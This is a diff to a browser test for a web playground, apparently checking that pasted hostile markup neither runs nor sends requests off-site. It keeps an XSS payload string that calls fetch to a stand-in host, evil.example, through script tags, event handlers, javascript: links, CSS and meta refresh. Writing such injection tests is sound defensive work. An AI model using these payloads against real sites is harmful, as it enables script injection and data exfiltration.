@@ -1,21 +1,10 @@
-import { launchBrowser, type ServedFolder } from "@event-content/tooling/browser";
-import type { Browser, Page } from "playwright-core";
-import { afterAll, beforeAll, expect, test } from "vitest";
+import type { Page } from "playwright-core";
+import { expect, test } from "vitest";
+import { siteInBrowser } from "../../test/site-in-browser.ts";
 import { OUTPUTS } from "./outputs/outputs.ts";
-import { editorText, openPlayground, pasteText, serveSite } from "./test/open-playground.ts";
+import { editorText, openPlayground, pasteText } from "./test/open-playground.ts";
 
-let site: ServedFolder;
-let browser: Browser;
-
-beforeAll(async () => {
-  site = await serveSite();
-  browser = await launchBrowser();
-});
-
-afterAll(async () => {
-  await browser?.close();
-  await site?.close();
-});
+const site = siteInBrowser();
 
 const RUN = "top.hacked=1;fetch('https://evil.example/x')";
 const MARKUP = `"'></title></script></textarea></iframe>--><script>${RUN}</script><img src=x onerror="${RUN}"><img src="https://evil.example/p.png"><svg onload="${RUN}"><a href="javascript:${RUN}">x</a><style>*{background:url(https://evil.example/c)}</style><link rel=stylesheet href=https://evil.example/s><iframe srcdoc="<script>${RUN}</script>"></iframe><meta http-equiv=refresh content="0;url=https://evil.example/">`;
@@ -53,7 +42,7 @@ function hostileItem(): unknown {
 /** Opens the playground, and collects what leaves the browser for another address than the site's. */
 async function openWatched(prepare?: (page: Page) => Promise<unknown>) {
   const sent: string[] = [];
-  const { page, close } = await openPlayground(browser, site.url, {
+  const { page, close } = await openPlayground(site.browser, site.url, {
     prepare: async (page) => {
       await page.route(
         (url) => url.origin !== site.url,
